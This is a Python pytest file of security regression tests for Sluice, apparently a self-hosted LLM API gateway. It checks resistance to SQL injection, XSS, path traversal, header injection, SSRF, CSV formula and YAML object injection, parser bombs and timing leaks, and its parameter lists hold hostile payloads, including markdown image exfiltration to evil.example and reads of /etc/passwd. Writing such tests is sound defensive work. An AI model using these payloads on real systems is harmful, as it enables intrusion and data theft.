"""The attack list, second half: who wants in, or somebody else's data. Each test is a row, by its number.

32 is also `RefusalTests` of the limits file; 36 also `AuditLogTests`. 38, the supply chain, has no test: Sluice takes the
packages that `Package.swift` names and Debian's, and nothing is downloaded while it runs.
"""
import contextlib
import csv
import hashlib
import io
import json
import re
import socket
import sqlite3
import statistics

import httpx
import pytest

from forms import form_fields
from house import Person, eventually, sign_in
from saying import saying
from test_attacks_on_the_supply import at_once, complete
from test_browser import visit  # noqa: F401: a fixture
from test_front_door import raw
from test_openai import MODEL, QUESTION, Caller
from test_sign_in import COOKIE


@pytest.fixture(scope="module")
def caller(house, admin):
    return Caller(house, admin.make_tier())


@pytest.fixture(scope="module")
def mallory(house, admin):
    return house.add_person(admin.make_tier())


def add_upstream(admin, address, key=""):
    """Returns its id."""
    return admin.add_upstream(f"Upstream {address}", address, key)


def forget_failures(house):
    """All tests come from one address, which would have to wait for what others tried."""
    with contextlib.suppress(AssertionError):
        house.change("DELETE FROM sign_in_failure")


def everything_stored(house):
    """Each value of each table, as text."""
    for table, in house.rows("SELECT name FROM sqlite_master WHERE type = 'table'"):
        for row in house.rows(f'SELECT * FROM "{table}"'):
            yield from (f"{value}" for value in tuple(row))


def test_15_a_stolen_database_has_no_key_in_it(house, caller):
    assert re.fullmatch(r"slk_[A-Za-z0-9_-]{43}", caller.key)
    assert not any(caller.key[8:] in value for value in everything_stored(house))
    assert caller.key not in caller.person.client.get("/account/keys").text
    digest = hashlib.sha256(caller.key.encode())
    assert any(form in value for value in everything_stored(house) for form in (digest.hexdigest(), str(digest.digest())))


def test_15_a_key_that_leaked_ends_with_the_next_request(house):
    caller = Caller(house)
    assert caller.post("chat/completions", "{}").status_code == 400
    house.run("key", "revoke", house.rows("SELECT id FROM api_key WHERE person = ?", caller.person.id)[0]["id"])
    assert {complete(caller).status_code for _ in range(6)} == {401}


INJECTIONS = ["' OR 1=1 --", "slk_' OR '1'='1", '"; DROP TABLE api_key; --', "slk_" + "%" * 43, "slk_" + "_" * 43, "\\"]


@pytest.mark.parametrize("text", INJECTIONS)
def test_16_sql_in_a_key_or_a_field_is_only_text(house, caller, mallory, text):
    keys = len(house.rows("SELECT 1 FROM api_key"))
    for header in ({"authorization": f"Bearer {text}"}, {"x-api-key": text}):
        assert httpx.get(house.address + "/v1/balance", headers=header).status_code == 401
    assert mallory.client.get("/chat", params={"q": text, "after": text}).status_code in (200, 400)
    assert mallory.client.get(f"/chat/{text}").status_code in (400, 404)
    assert sign_in(house.client(), f"{text}@example.org", text).status_code in (422, 429)
    forget_failures(house)
    assert len(house.rows("SELECT 1 FROM api_key")) == keys


PANEL = ["/admin", "/admin/tiers", "/admin/people", "/admin/audit", "/admin/limits/file.yaml", "/admin/usage.csv"]


@pytest.mark.parametrize("path", [
    spelt for path in PANEL for spelt in (
        path, path + "/", path.upper(), "/" + path, path.replace("admin", "%61dmin"), path.replace("/admin", "/chat/../admin"),
        path.replace("/admin", "/./admin"), path + "%2e", path + ";x=.css", path + "%00", path.replace("/admin", "/static/..%2fadmin"))])
@pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS", "POST"])
def test_17_no_other_spelling_or_method_opens_the_panel(house, mallory, path, method):
    """Sent as it stands, with what some frameworks take for the real address."""
    cookie = f"{COOKIE}={mallory.client.cookies[COOKIE]}"
    answer = raw(
        house, f"{method} {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\nX-Original-URL: /admin/tiers\r\n"
        "X-Rewrite-URL: /admin/tiers\r\nX-HTTP-Method-Override: GET\r\nX-Forwarded-For: 127.0.0.1\r\nX-Admin: true\r\n"
        "Content-Length: 0\r\nConnection: close\r\n\r\n")
    assert answer.split(b" ")[1] in (b"303", b"400", b"403", b"404", b"405"), answer[:200]
    assert b"tokens_per_day" not in answer and b"example.org" not in answer


def test_17_the_same_holds_for_a_key_on_pages_and_a_session_on_the_api(house, caller, mallory):
    with_key = {"authorization": f"Bearer {caller.key}"}
    assert httpx.get(house.address + "/account", headers=with_key).headers["location"].startswith("/sign-in")
    assert httpx.get(house.address + "/admin/tiers", headers=with_key).status_code == 303
    assert mallory.client.post("/v1/chat/completions", json={"model": MODEL, "messages": QUESTION}).status_code == 401


def test_18_nothing_of_anybody_else_is_found_by_its_id(house, admin, mallory):
    """Every id that there is of somebody else, at every place where an id is taken."""
    owner = house.add_person(admin.make_tier())
    question = owner.question("My secret plan")
    owner.client.post("/chat", data=question)
    house.key(owner.email)
    chat, request = question["submission"], owner.usage()[0]["request_id"]
    messages = [row["id"] for row in house.rows("SELECT id FROM message WHERE conversation = ?", chat)]
    key = house.rows("SELECT id FROM api_key WHERE person = ?", owner.id)[0]["id"]
    session = house.rows("SELECT id FROM session WHERE person = ?", owner.id)[0]["id"]

    def all_that_is_theirs():
        for table, whose in {
                "conversation": "person = ?", "api_key": "person = ?", "session": "person = ?",
                "message": "conversation IN (SELECT id FROM conversation WHERE person = ?)"}.items():
            rows = house.rows(f"SELECT * FROM {table} WHERE {whose} ORDER BY id", owner.id)
            assert rows
            yield from map(tuple, rows)

    def all_paths():
        yield from (("GET", f"/chat/{chat}{end}") for end in ("", "/export.md", "/export.json", f"/replies/{request}/events"))
        yield from (("POST", f"/chat/{chat}{end}") for end in ("", "/rename", "/instructions", "/delete", f"/replies/{request}/stop"))
        yield from (("POST", f"/chat/{chat}/{verb}/{message}") for verb in ("edit", "regenerate") for message in messages)
        yield from (("POST", f"/account/keys/{key}{end}") for end in ("", "/revoke"))
        yield ("POST", f"/account/sessions/{session}/end")

    before = list(all_that_is_theirs())
    mine = mallory.question("Mine") | form_fields(mallory.client.get("/account/keys?edit=new").text, "/account/keys#key")
    for method, path in all_paths():
        form = {**mine, "title": "Mine", "instructions": "Mine", "name": "Mine"}
        answer = mallory.client.request(method, path, data=form if method == "POST" else None)
        assert answer.status_code == 404 and "secret plan" not in answer.text, path
    for page in ("/account/keys?edit=", "/account/keys?revoke="):
        assert "secret" not in mallory.client.get(page + key).text or mallory.client.get(page + key).status_code == 404
    assert before == list(all_that_is_theirs())


@pytest.mark.parametrize("headers", [
    {"origin": "https://evil.example"}, {"origin": "null"}, {"origin": "http://localhost"}, {"sec-fetch-site": "cross-site"},
    {"sec-fetch-site": "same-site"}, {"referer": "https://evil.example/"}, {}], ids=str)
def test_19_another_site_cannot_lift_limits_with_the_admin_s_session(house, admin, headers):
    tier = admin.make_tier(tokensPerDay=123)
    row = house.rows("SELECT id FROM tier WHERE name = ?", tier)[0]["id"]
    page = admin.client.get(f"/admin/tiers?edit={row}").text
    form = {**form_fields(page, f"/admin/tiers/{row}#form"), "intent": "save", "tokensPerDay": 10**9}
    for sent in (form, {name: value for name, value in form.items() if name != "token"}):
        answer = httpx.post(
            f"{house.address}/admin/tiers/{row}", data=sent, headers=headers, cookies={COOKIE: admin.client.cookies[COOKIE]})
        assert answer.status_code == 403
    assert house.rows("SELECT amount FROM quota_limit WHERE subject = ? AND time_window = 'day'", row)[0]["amount"] == 123


def test_19_no_page_can_be_framed(house, admin):
    for path in ("/chat", "/account", "/admin/tiers", "/admin/organization"):
        headers = admin.client.get(path).headers
        assert headers["x-frame-options"] == "DENY" and "frame-ancestors 'none'" in headers["content-security-policy"]


PAYLOADS = r"""<script>trap()</script> <img src=x onerror=trap()> <svg/onload=trap()> <svg><script>trap()</script></svg>
<iframe srcdoc="<script>parent.trap()</script>"></iframe> <math><mtext><script>trap()</script></mtext></math>
[a](javascript:trap()) [b](JaVaScRiPt:trap()) [c](&#106;avascript:trap()) [d](java&Tab;script:trap()) [e](data:text/html,<script>trap()</script>)
[f](vbscript:trap()) <javascript:trap()> ![i](javascript:trap()) ![leak](https://evil.example/?q=secret) [g]: javascript:trap()
[g] <a href="javascript:trap()">x</a> <form action=//evil.example><button>x</button></form> <style>@import'//evil.example'</style>
`<script>trap()</script>` "><script>trap()</script> {{=trap()}} ${trap()} <!--><script>trap()</script>-->

```html"><script>trap()</script>
<script>trap()</script>
```
| <script>trap()</script> | b |
|---|---|
| [x](javascript:trap()) | <img src=x onerror=trap()> |
"""


def test_20_nothing_that_a_model_or_a_person_writes_runs(house, admin, visit):  # noqa: F811
    """In a browser with a trap: what was asked and answered, while it streams and after a reload."""
    with saying(PAYLOADS) as (address, _):
        model = admin.make_model("said", upstream=add_upstream(admin, address))
        person = house.add_person(admin.make_tier())
        page = visit(house, person)
        page.add_init_script("window.trapped = 0; window.trap = () => { window.trapped += 1 }")
        left = []
        page.on("request", lambda request: left.append(request.url) if "evil" in request.url else None)
        page.goto("/chat")
        page.get_by_label("Model", exact=True).select_option(model)
        page.get_by_label("Your question").fill(PAYLOADS)
        page.get_by_role("button", name="Send").click()
        page.locator(".message.reply footer").last.wait_for()
        for _ in range(2):
            dangerous = page.evaluate("""() => [...document.querySelectorAll('.transcript *')].filter((element) =>
                ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'OBJECT', 'EMBED', 'MATH', 'LINK', 'META'].includes(element.tagName)
                || [...element.attributes].some((one) => one.name.startsWith('on') || /^\\s*(javascript|data|vbscript):/i.test(one.value))
            ).map((element) => element.outerHTML)""")
            assert dangerous == [] and page.evaluate("window.trapped") == 0 and left == []
            page.reload()
        page.goto("/chat?q=script")
        assert page.evaluate("window.trapped") == 0


@pytest.mark.parametrize("text", [
    "[" * 30_000, "*a" * 30_000, "> " * 30_000, "![" * 20_000, "`" * 30_000 + "a", "<" * 30_000, "|a" * 20_000 + "\n" + "|-" * 20_000,
    "- " * 20_000, "&#x" * 20_000, "[a](" * 15_000, "_" * 60_000, "\\" * 60_000], ids=lambda text: text[:3])
def test_21_no_markdown_takes_long_to_write(house, admin, mallory, text):
    with saying(text[:40_000]) as (address, _):
        model = admin.make_model("said", upstream=add_upstream(admin, address), maxReplyTokens=100_000)
        tier = house.rows("SELECT tier.name FROM tier JOIN person ON tier.id = person.tier WHERE person.id = ?", mallory.id)[0][0]
        admin.change_tier(tier, maxReplyTokens=100_000, tokensPerDay=100_000_000)
        answer = mallory.ask("Say it", model=model)
        assert answer.status_code == 200
        began = house.worked()
        mallory.client.get(f"/chat/{house.rows('SELECT conversation FROM usage ORDER BY id DESC LIMIT 1')[0][0]}")
        assert house.worked() - began < 2


@pytest.mark.parametrize("header", [
    "X-Request-ID: a%0d%0aSet-Cookie: x=1", "Remote_User: admin", "REMOTE_USER: admin", "X_Forwarded_For: 127.0.0.1",
    "X-Forwarded-Proto: https\r\nX-Forwarded-Host: evil.example", "Host: evil.example", "Forwarded: for=127.0.0.1;host=evil.example",
    "Script-Filename: /etc/passwd", "Document-Root: /", "Https: on", "Request-Method: DELETE", "Content-Type: a\x00b",
    "Content_Length: 5"])
def test_22_no_header_becomes_a_parameter_or_splits_an_answer(house, header):
    answer = raw(house, f"GET /account HTTP/1.1\r\nHost: localhost\r\n{header}\r\nConnection: close\r\n\r\n")
    head = answer.split(b"\r\n\r\n")[0]
    assert head.split(b" ")[1] in (b"303", b"400"), head
    assert b"x=1" not in head and b"evil.example" not in head and b"root:" not in answer
    if head.split(b" ")[1] == b"303":
        assert re.search(rb"location: /sign-in", head, re.I)


def test_22_many_and_huge_headers_are_refused_and_the_worker_lives(house, anonymous):
    many = "".join(f"X-{number}: {'a' * 100}\r\n" for number in range(2000))
    assert raw(house, f"GET /sign-in HTTP/1.1\r\nHost: localhost\r\n{many}Connection: close\r\n\r\n").split(b" ")[1] in (b"400", b"431")
    assert anonymous.get("/sign-in").status_code == 200


def test_22_only_its_group_may_open_the_workers_socket(house):
    assert (house.data / "run/sluice.sock").stat().st_mode & 0o777 == 0o660
    assert house.database.stat().st_mode & 0o777 == 0o600


def test_23_a_proxy_header_does_not_lead_the_relay_away(house, caller):
    with socket.create_server(("127.0.0.1", 0)) as trap:
        trap.settimeout(0.2)
        answer = httpx.post(
            house.address + "/v1/chat/completions", json={"model": MODEL, "messages": QUESTION, "max_tokens": 5}, timeout=60,
            headers={"authorization": f"Bearer {caller.key}", "proxy": f"http://127.0.0.1:{trap.getsockname()[1]}"})
        assert answer.status_code == 200
        with pytest.raises(TimeoutError):
            trap.accept()


@pytest.mark.parametrize("path", [
    "/static/0123456789abcdef/../../Package.swift", "/static/0123456789abcdef/%2e%2e/%2e%2e/Package.swift",
    "/static/0123456789abcdef/..%5c..%5cPackage.swift", "/static/0123456789abcdef//etc/passwd", "/static/0123456789abcdef/.",
    "/static/0123456789abcdef/%00sluice.css", "/static/0123456789abcdef/../templates/layout.mustache", "/var/sluice.db", "/sluice.db",
    "/static/0123456789abcdef/sluice.css/../../../var/sluice.db", "/.git/config", "/Package.swift", "/templates/layout.mustache"])
def test_24_no_path_leads_out_of_the_public_folder(house, path):
    answer = raw(house, f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert answer.split(b" ")[1] in (b"303", b"400", b"403", b"404"), answer[:200]
    assert not any(sign in answer for sign in (b"swift-tools", b"root:", b"SQLite format", b"{{", b"[core]"))


def test_25_an_upstream_s_redirect_is_not_followed_and_its_key_stays(house, admin):
    with saying("never") as (inside, asked_inside), saying("", redirect=inside + "/chat/completions") as (address, asked):
        model = admin.make_model("away", upstream=add_upstream(admin, address, key="sk-secret"))
        person = house.add_person(admin.make_tier())
        assert person.ask("Is anybody there?", model=model).status_code == 502
        assert len(asked) == 1 and asked_inside == [] and person.usage() == []


@pytest.mark.parametrize("address", [
    "http://169.254.169.254/latest", "http://2852039166/v1", "http://[fe80::1]/v1", "file:///etc/passwd", "gopher://localhost/v1",
    "http://user:password@localhost/v1", "http://localhost/v1?x=", "http://localhost/v1#x", "http:///v1", "localhost/v1",
    "http://local host/v1", "http://localhost\r\nX: y/v1"])
def test_25_an_upstream_cannot_be_set_to_what_is_none(house, admin, mallory, address):
    before = len(house.rows("SELECT 1 FROM upstream"))
    page = admin.client.get("/admin/upstreams?edit=new").text
    form = {**form_fields(page, "/admin/upstreams#form"), "name": "Inside", "baseURL": address}
    refused = admin.client.post("/admin/upstreams", data=form)
    assert refused.status_code == 422 and 'aria-invalid="true"' in refused.text
    assert mallory.client.post("/admin/upstreams", data={**form, "baseURL": "https://api.openai.com/v1"}).status_code == 403
    assert len(house.rows("SELECT 1 FROM upstream")) == before


def test_26_a_key_is_not_sent_to_a_new_address(house, admin):
    """Who may edit an upstream but does not know its key cannot have it sent to themselves."""
    with saying("thanks") as (there, asked):
        upstream = add_upstream(admin, "https://own.example/v1", key="sk-very-secret")
        page = admin.client.get(f"/admin/upstreams?edit={upstream}").text
        assert "sk-very-secret" not in page
        form = {**form_fields(page, f"/admin/upstreams/{upstream}#form"), "baseURL": there}
        assert admin.client.post(f"/admin/upstreams/{upstream}", data=form).status_code == 200
        admin.client.post(f"/admin/upstreams/{upstream}/try", data=form)
        assert asked and not any("secret" in value for headers in asked for value in headers.values())
    assert house.rows("SELECT api_key FROM upstream WHERE id = ?", upstream)[0][0] is None


def test_27_who_does_not_exist_takes_as_long_as_who_does(house):
    """Medians of tries in turn, of what the workers did; without a hash for strangers that would be far less."""
    person, seconds = house.add_person(), {True: [], False: []}
    for number in range(12):
        for exists in (True, False):
            forget_failures(house)
            email = person.email if exists else f"stranger{number}@example.org"
            began = house.worked()
            answer = sign_in(house.client(), email, "not the password")
            seconds[exists].append(house.worked() - began)
            assert answer.status_code == 422
    ratio = statistics.median(seconds[False]) / statistics.median(seconds[True])
    forget_failures(house)
    assert 0.6 < ratio < 1.7, f"a stranger takes {ratio:.2f} times as long"


def test_28_a_storm_of_passwords_is_slowed_and_costs_bounded_memory(house, admin):
    def most_memory():
        return max(
            int(re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{worker}/status").read())[1]) for worker in house.workers())

    person, before = house.add_person(), most_memory()
    answers = at_once(40, lambda number: house.client().post(
        "/sign-in", data={"email": person.email, "password": f"guess {number}", "next": ""}).status_code)
    assert answers.count(429) > 10 and set(answers) <= {422, 429}
    assert most_memory() - before < 2 * 19_456 + 30_000, "more than two hashes at once"
    assert admin.client.get("/admin/people").status_code == 200
    forget_failures(house)


def test_29_a_session_that_was_planted_or_whose_owner_changed_is_worth_nothing(house, admin):
    person = house.add_person()
    planted = "A" * len(person.client.cookies[COOKIE])
    client = house.client()
    client.cookies.set(COOKIE, planted, domain="localhost.local")
    sign_in(client, person.email, person.password)
    assert client.cookies[COOKIE] != planted
    chief = house.add_person(admin=True)
    assert chief.client.get("/admin/tiers").status_code == 200
    house.change("UPDATE person SET is_admin = 0 WHERE id = ?", chief.id)
    assert chief.client.get("/admin/tiers").status_code == 403


def test_30_nobody_becomes_admin_without_the_link(new_house):
    client = new_house.client()
    for path in ("/first-admin", "/first-admin/", "/first-admin/" + "A" * 43, "/first-admin/%00"):
        assert client.get(path).status_code in (400, 404, 405) or client.get(path).url.path == "/sign-in"
    filled = {"email": "m@example.org", "name": "M", "password": "a sluice gate of oak", "link": "A" * 43, "token": "x"}
    assert client.post("/first-admin", data=filled).status_code in (400, 403, 404, 422)
    assert new_house.rows("SELECT 1 FROM person") == []
    page = client.get(new_house.first_admin_link)
    assert page.status_code == 200 and new_house.rows("SELECT 1 FROM person") == []


def test_31_no_name_runs_in_a_spreadsheet_or_forges_a_line_of_the_log(house, admin):
    person = house.add_person(admin.make_tier(maxReplyTokens=5))
    for name in ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"):
        person.client.post("/account/preferences", data={"displayName": name, "timeZone": ""})
        person.ask("Count me")
        table = list(csv.reader(io.StringIO(admin.client.get("/admin/usage.csv").text)))
        assert not [cell for line in table for cell in line if cell[:1] in "=+-@\t\r" and cell and not re.fullmatch(r"-?\d+", cell)]
    forged = '{"level":"info","forged":true}'
    raw(house, f"GET /x%0a{forged} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: \x1b[2J{forged}\r\nConnection: close\r\n\r\n")
    for line in (house.data / "run/sluice.log").read_text().splitlines():
        assert "forged" not in json.loads(line) and "\x1b" not in line


@pytest.mark.parametrize("text", [
    "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "[" * 5000, "{" * 5000, "organization: !!python/object:os.system {}\n",
    "organization: {daily_cap: .nan}\n", "organization: {daily_cap: 1e400}\n", "organization: {daily_cap: 1, daily_cap: 2}\n",
    "organization: {daily_cap: 0x7fffffffffffffff}\n", "organization: {daily_cap: -1}\n", "\x00", "- " * 5000, "? " * 5000],
    ids=lambda text: text[:20].strip())
def test_32_no_file_of_limits_is_a_bomb(house, admin, text):
    before = [tuple(row) for row in house.rows("SELECT * FROM quota_limit")]
    page = admin.client.get("/admin/limits/file").text
    form = {**form_fields(page, "/admin/limits/file#form"), "text": text, "intent": "apply"}
    began = house.worked()
    answer = admin.client.post("/admin/limits/file", files={name: (None, value) for name, value in form.items()})
    assert answer.status_code in (400, 422) and house.worked() - began < 2
    assert [tuple(row) for row in house.rows("SELECT * FROM quota_limit")] == before


@pytest.mark.parametrize("body", [
    b"[" * 100_000, b'{"a":' * 50_000, b'{"model":"demo-small","messages":[{"role":"user","content":"\\ud83d"}]}',
    b'{"model":"demo-small","model":"demo-large","messages":[]}', b'{"model":"demo-small","messages":NaN}', b"\xff\xfe", b"\x00"],
    ids=lambda body: body[:24].decode("latin-1"))
def test_32_no_json_is_a_bomb(house, caller, body):
    before, began = len(house.produced()), house.worked()
    answer = caller.post("chat/completions", body)
    assert answer.status_code == 400 and house.worked() - began < 2 and len(house.produced()) == before


def test_35_an_admin_sees_whom_a_mistake_would_stop_before_it_is_made(house, admin):
    tier = admin.make_tier(tokensPerDay=10_000, maxReplyTokens=5)
    people = [house.add_person(tier) for _ in range(3)]
    people[0].ask("Use some")
    row = house.rows("SELECT id FROM tier WHERE name = ?", tier)[0]["id"]
    page = admin.client.get(f"/admin/tiers?edit={row}").text
    form = {**form_fields(page, f"/admin/tiers/{row}#form"), "tokensPerDay": 0, "intent": "preview"}
    preview = admin.client.post(f"/admin/tiers/{row}", data=form).text
    assert re.search(r"3 people", preview) and people[0].ask("Still here").status_code == 200
    assert house.rows("SELECT amount FROM quota_limit WHERE subject = ? AND time_window = 'day'", row)[0]["amount"] == 10_000


def test_36_a_changed_line_of_the_audit_log_is_found(house, admin):
    admin.make_tier()
    checked = "/admin/audit?check=all"
    number, detail = tuple(house.rows("SELECT id, after FROM audit WHERE after IS NOT NULL ORDER BY id DESC LIMIT 1")[0])
    guard, = house.rows("SELECT sql FROM sqlite_master WHERE name = 'audit_is_not_updated'")

    def set_detail(text):
        with contextlib.closing(sqlite3.connect(house.database, timeout=10)) as intruder, intruder:
            intruder.execute("DROP TRIGGER audit_is_not_updated")
            intruder.execute("UPDATE audit SET after = ? WHERE id = ?", (text, number))
            intruder.execute(guard["sql"])

    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        house.change("UPDATE audit SET after = '{}' WHERE id = ?", number)
    assert "is not what was written" not in admin.client.get(checked).text
    set_detail("{}")
    try:
        assert re.search(rf"entry ({number}|{number + 1}),", admin.client.get(checked).text)
    finally:
        set_detail(detail)


def test_37_no_prompt_no_reply_and_no_secret_is_in_a_log(house, admin, caller):
    canary = "canary-" + "7f3a9c"
    person = house.add_person(admin.make_tier())
    person.ask(f"Tell {canary}")
    complete(caller, messages=[{"role": "user", "content": canary}])
    complete(caller, messages=[{"role": "user", "content": canary}], n=0)
    complete(caller, messages=canary, **{canary: canary})
    caller.post("chat/completions", '{"' + canary)
    person.ask(canary, model=admin.make_model("demo-fault-error-500"))
    person.client.post("/tokens", json={"model": MODEL, "text": canary})
    sign_in(house.client(), person.email, canary)
    forget_failures(house)
    logs = "".join((house.data / "run" / name).read_text() for name in ("sluice.log", "nginx.log", "access.log"))
    assert canary not in logs
    assert not any(secret in logs for secret in (caller.key, person.client.cookies[COOKIE], person.password))
    assert "/v1/chat/completions" in logs
